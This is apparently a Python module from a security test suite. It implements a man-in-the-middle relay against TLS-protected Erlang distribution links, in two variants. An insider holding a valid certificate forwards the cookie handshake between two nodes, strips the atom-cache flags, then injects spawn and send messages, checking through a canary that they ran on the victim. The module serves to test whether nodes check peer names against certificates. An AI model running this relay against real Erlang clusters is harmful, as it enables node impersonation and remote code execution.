"""An insider between two nodes: it passes on what the honest ones say, cookies and all, and then speaks
itself.
"""

from __future__ import annotations

import socket
import ssl
import struct
import time
from collections.abc import Iterable

from tests.attacks.catalogue import dialogue
from tests.attacks.catalogue.attack import Attack, Need, Stage, Try
from tests.attacks.catalogue.courses import BATCH, beam
from tests.attacks.catalogue.dialogue import Wire
from tests.attacks.catalogue.entry import CALL_SECONDS
from tests.attacks.catalogue.listening import Listening
from tests.attacks.catalogue.terms import Speaker
from tests.attacks.scene import DIAL
from tests.system.intruder import atom

ATOM_CACHE = 0x0080_2000
"""DFLAG_FRAGMENTS and DFLAG_DIST_HDR_ATOM_CACHE: without them the relay's own messages need no state.
Nothing signs the flags.
"""


class Relay(Listening):
    """Stands between two nodes with the insider's certificate, passes their cookies on, and then speaks
    itself.
    """

    def __init__(
        self, stage: Stage, listen: tuple[str, int], upstream: tuple[str, int], *, victim_dials: bool
    ) -> None:
        leaf = stage.target.leaf(stage.target.listed())
        self._stage, self._upstream, self._victim_dials = stage, upstream, victim_dials
        self._near = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self._near.load_cert_chain(leaf.certificate, leaf.key)
        self._far = dialogue.trusting(str(leaf.certificate), str(leaf.key))
        listener = socket.create_server(listen, backlog=64)
        self.address: tuple[str, int] = listener.getsockname()
        super().__init__(listener, "relay")

    def take(self, accepted: socket.socket) -> Try:
        began = time.monotonic()
        address = dialogue.text_of(accepted.getsockname())
        claimed = self._stage.target.listed(1)
        linked = executed = False
        far = dialogue.tls(self._upstream, self._far)
        near = accepted
        try:
            with accepted:
                near = self._near.wrap_socket(accepted, server_side=True)
            dialogue.handshake(far)
            if not self._victim_dials:
                address = far.address
            creation = self._pass_on(Wire(near, address), far)
            to_victim = Wire(near, address) if self._victim_dials else far
            canary = self._stage.canary()
            speaker = Speaker(claimed, creation, self._stage.target.name, 0, canary.address)
            to_victim.socket.sendall(to_victim.framed(speaker.spawn(), speaker.cast(), speaker.send()))
            linked = not self._victim_dials or to_victim.wait(canary.fileno(), CALL_SECONDS)
            executed = canary.heard(CALL_SECONDS) > 0
        except (OSError, struct.error):
            pass
        ended = time.monotonic() - began
        near.close()
        far.close()
        return Try(address, None if executed else ended, linked and executed, executed, claimed=claimed)

    def _pass_on(self, near: Wire, far: Wire) -> int:
        """The handshake of two nodes that both know the cookie; the incarnation of the one that is not the
        victim.
        """
        first = _without_cache(near.receive())  # $N
        far.send(first)
        status = far.receive()  # $s
        near.send(status)
        if status == b"salive":  # it has not heard yet that the link before has ended, and is told to insist
            far.send(near.receive())
        challenge = _without_cache(far.receive())  # $N
        near.send(challenge)
        far.send(near.receive())  # $r
        near.send(far.receive())  # $a
        (creation,) = struct.unpack(">I", challenge[13:17] if self._victim_dials else first[9:13])
        return int(creation)


def _without_cache(frame: bytes) -> bytes:
    (flags,) = struct.unpack(">Q", frame[1:9])
    return frame[:1] + struct.pack(">Q", flags & ~ATOM_CACHE) + frame[9:]


def relay_in(stage: Stage) -> Iterable[Try]:
    """The honest node c dials the victim, and reaches the insider; the victim is dialled by the insider as
    c.
    """
    target = stage.target
    c = target.listed(1)
    with Relay(stage, (target.address[0], 0), target.address, victim_dials=False) as relay:
        peers = {target.name: relay.address[1]}
        with beam(stage, c, target.leaf(c), peers, cookie=target.cookie(c), hidden=True) as honest:
            for done in range(0, stage.attempts, BATCH):
                if stage.over():
                    break
                times = min(BATCH, stage.attempts - done)
                honest.erl(DIAL.format(name=atom(target.name), times=times), 30 + 10 * times)
                stage.progress(done + times, stage.attempts)
    return relay.tries


def relay_out(stage: Stage) -> Iterable[Try]:
    """The victim dials c, and reaches the insider, who dials the honest c as if it were the victim."""
    target = stage.target
    c = target.listed(1)
    with beam(stage, c, target.leaf(c), {}, cookie=target.cookie(c), hidden=True) as honest:
        port = int(honest.erl(_OWN_PORT))
        with Relay(stage, target.listed_address(1), (target.address[0], port), victim_dials=True) as relay:
            for done in range(0, stage.attempts, BATCH):
                if stage.over():
                    break
                target.dial(c, min(BATCH, stage.attempts - done))
                stage.progress(min(done + BATCH, stage.attempts), stage.attempts)
    return relay.tries


_OWN_PORT = """
[Port | _] = [P || S <- erlang:ports(), {name, "tcp_inet"} <- [erlang:port_info(S, name)],
                   {ok, {_, P}} <- [inet:sockname(S)], {error, enotconn} <- [inet:peername(S)]],
Port
"""
"""Where a node listens for links."""

_NEEDS = frozenset({Need.BEAM, Need.COOKIE, Need.INSIDER, Need.CA_KEY})

ATTACKS = (
    Attack(
        "relay_in",
        "an insider relays to the victim",
        relay_in,
        frozenset({"name_not_in_certificate"}),
        _NEEDS,
        identity=lambda target: target.identity(target.listed()),
    ),
    Attack(
        "relay_out",
        "an insider relays what the victim dials",
        relay_out,
        frozenset({"name_not_in_certificate", "wrong_peer"}),
        _NEEDS | {Need.INSIDE},
        "out",
        lambda target: target.identity(target.listed()),
    ),
)
